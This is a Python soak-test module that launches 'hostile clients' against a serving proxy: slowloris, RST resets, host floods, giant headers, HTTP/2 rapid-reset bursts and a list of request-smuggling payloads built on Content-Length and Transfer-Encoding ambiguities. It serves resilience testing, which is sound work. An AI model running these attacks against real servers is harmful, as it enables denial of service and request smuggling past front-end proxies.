"""Hostile clients: ``python -m benchmarks.soak.hostile``.

Each line on standard input is an attack: ``MODE IP:PORT SECONDS SEED``. When it has ended, a line
of JSON has the number of its connections, and of the responses by status. The process ends with its
standard input.
"""

from __future__ import annotations

import asyncio
import json
import socket
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from random import Random
from time import monotonic
from typing import Any, Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes

from benchmarks.mixed.kinds import WEB, authority
from benchmarks.mixed.pod import SMUGGLED
from benchmarks.process import raise_file_limit

#: Close sends RST.
_NO_LINGER: Final = struct.pack("ii", 1, 0)
_HOST: Final = f"Host: {authority(WEB)}\r\nKnative-Serving-Namespace: default\r\n".encode()
_REVISION: Final = b"Knative-Serving-Revision: web\r\n"
_FIELDS: Final = _HOST + _REVISION
_INNER: Final = b"GET %b HTTP/1.1\r\n%b\r\n" % (SMUGGLED.encode(), _FIELDS)
#: Bursts of resets on one connection, more than an activator accepts, and resets of each.
_BURSTS: Final = 20
_RESETS: Final = 200
#: Seconds between two bursts.
_MOMENT: Final = 0.02
#: Seconds for a response.
_PATIENCE: Final = 3.0


def _ambiguous(*lines: bytes, body: bytes = b"0\r\n\r\n" + _INNER) -> bytes:
    """Return a POST whose end two servers may see at different places."""
    return b"POST / HTTP/1.1\r\n" + _FIELDS + b"".join(f + b"\r\n" for f in lines) + b"\r\n" + body


#: Requests that hide another one (RFC 9112 section 6.3 and 11.2). All must be refused.
AMBIGUOUS: Final = (
    _ambiguous(b"Content-Length: 5", b"Transfer-Encoding: chunked"),
    _ambiguous(b"Transfer-Encoding: chunked", b"Content-Length: %d" % (5 + len(_INNER))),
    _ambiguous(b"Content-Length: 0", b"Content-Length: %d" % len(_INNER), body=_INNER),
    _ambiguous(b"Content-Length: 0, 5", body=_INNER),
    _ambiguous(b"Content-Length: +0", body=_INNER),
    _ambiguous(b"Transfer-Encoding: xchunked"),
    _ambiguous(b"Transfer-Encoding : chunked"),
    _ambiguous(b"Transfer-Encoding: chunked, identity"),
    _ambiguous(b"Transfer-Encoding: \x0bchunked"),
    _ambiguous(b"X: y", b" Transfer-Encoding: chunked"),
    _ambiguous(b"Transfer-Encoding: chunked", body=b"0x0\r\n\r\n" + _INNER),
    _ambiguous(b"Transfer-Encoding: chunked", body=b"0\n\n" + _INNER),
    _ambiguous(b"Transfer-Encoding: chunked", body=b"ffffffffffffffff0\r\n\r\n" + _INNER),
)


class Attack:
    """One attack while it runs.

    Attributes:
        random: decides its details.
        statuses: the responses by status; 0 for a connection that closed without one.
    """

    def __init__(self, ip: str, port: int, seconds: float, seed: int) -> None:
        self.random = Random(seed)
        self.connections = 0
        self.statuses: Counter[int] = Counter()
        self._to = ip, port
        self._end = monotonic() + seconds

    @property
    def lasts(self) -> bool:
        """Whether its time has not passed."""
        return monotonic() < self._end

    async def open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open one more connection."""
        self.connections += 1
        return await asyncio.open_connection(*self._to)

    async def status(self, reader: asyncio.StreamReader) -> int:
        """Read the beginning of a response; return and count its status."""
        try:
            async with asyncio.timeout(_PATIENCE):
                line = await reader.readline()
            status = int(line.split()[1]) if line.startswith(b"HTTP/1") else 0
        except (OSError, ValueError, IndexError):
            status = 0
        self.statuses[status] += 1
        return status

    async def is_closed(self, reader: asyncio.StreamReader) -> bool:
        """Read for a moment; return and count whether the other side closed the connection."""
        try:
            async with asyncio.timeout(_MOMENT):
                while await reader.read(1 << 16):
                    pass
        except TimeoutError:
            return False
        except OSError:
            pass
        self.statuses[0] += 1
        return True

    async def repeat(self, times: int, do: Callable[[Attack], Awaitable[None]]) -> None:
        """Repeat something in so many tasks while the attack lasts."""

        async def again() -> None:
            while self.lasts:
                try:
                    await do(self)
                except OSError:
                    await asyncio.sleep(0.05)

        await asyncio.gather(*(again() for _ in range(times)))


async def _slow_head(attack: Attack) -> None:
    _, writer = await attack.open()
    head = b"GET / HTTP/1.1\r\n" + _FIELDS
    at = 0
    while attack.lasts and not writer.is_closing():
        writer.write(head[at : at + 1] or b"x")
        at += 1
        await asyncio.sleep(0.1 + attack.random.random() / 5)
    writer.close()


async def _reset(attack: Attack) -> None:
    _, writer = await attack.open()
    whole = b"GET /large HTTP/1.1\r\n" + _FIELDS + b"\r\n"
    upload = b"POST / HTTP/1.1\r\n" + _FIELDS + b"Content-Length: 9999\r\n\r\nbegun"
    writer.write(attack.random.choice((whole, whole[:-5], upload)))
    await asyncio.sleep(attack.random.choice((0.0, 0.005, 0.05)))
    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _NO_LINGER)
    writer.transport.abort()
    await asyncio.sleep(0.02)


async def _flood(attack: Attack) -> None:
    reader, writer = await attack.open()
    host = f"Host: nobody-{attack.random.randrange(1 << 30)}.example.com\r\n".encode()
    writer.write(b"GET / HTTP/1.1\r\n" + host + b"\r\n")
    await attack.status(reader)
    writer.close()
    await asyncio.sleep(0.01)


async def _huge_head(attack: Attack) -> None:
    reader, writer = await attack.open()
    huge = attack.random.choice(
        (
            b"GET /" + b"x" * (2 << 20) + b" HTTP/1.1\r\n" + _FIELDS + b"\r\n",
            b"GET / HTTP/1.1\r\n" + _FIELDS + b"X: " + b"y" * (2 << 20) + b"\r\n\r\n",
            b"GET / HTTP/1.1\r\n" + _FIELDS + b"X: y\r\n" * 5000 + b"\r\n",
        )
    )
    writer.write(huge)
    await attack.status(reader)
    writer.transport.abort()
    await asyncio.sleep(0.05)


async def _smuggle(attack: Attack) -> None:
    reader, writer = await attack.open()
    writer.write(attack.random.choice(AMBIGUOUS))
    await attack.status(reader)
    writer.close()
    await asyncio.sleep(0.02)


async def _rapid_reset(attack: Attack) -> None:
    reader, writer = await attack.open()
    state = H2Connection(H2Configuration(client_side=True))
    state.initiate_connection()
    to = attack.random.choice((authority(WEB), "nobody"))
    fields = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", to)]
    for _ in range(_BURSTS):
        for _ in range(_RESETS):
            stream = state.get_next_available_stream_id()
            state.send_headers(stream, fields, end_stream=True)
            state.reset_stream(stream, ErrorCodes.CANCEL)
        writer.write(state.data_to_send())
        if await attack.is_closed(reader):
            break
    writer.transport.abort()


#: The attacks by name: the number of tasks, and the step that each repeats.
MODES: Final[dict[str, tuple[int, Callable[[Attack], Awaitable[None]]]]] = {
    "slowloris": (100, _slow_head),
    "resets": (10, _reset),
    "flood": (20, _flood),
    "huge-heads": (3, _huge_head),
    "smuggling": (4, _smuggle),
    "rapid-reset": (3, _rapid_reset),
}


async def attack(mode: str, to: str, seconds: str, seed: str) -> dict[str, Any]:
    """Carry out an attack, and return its facts."""
    ip, port = to.split(":")
    found = Attack(ip, int(port), float(seconds), int(seed))
    await found.repeat(*MODES[mode])
    return {"mode": mode, "connections": found.connections, "statuses": found.statuses}


async def main() -> None:
    """Carry out one attack for each line on standard input."""
    lines = asyncio.StreamReader()
    loop = asyncio.get_running_loop()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(lines), sys.stdin)
    while words := (await lines.readline()).decode().split():
        print(json.dumps(await attack(*words)), flush=True)


if __name__ == "__main__":
    raise_file_limit()
    asyncio.run(main())
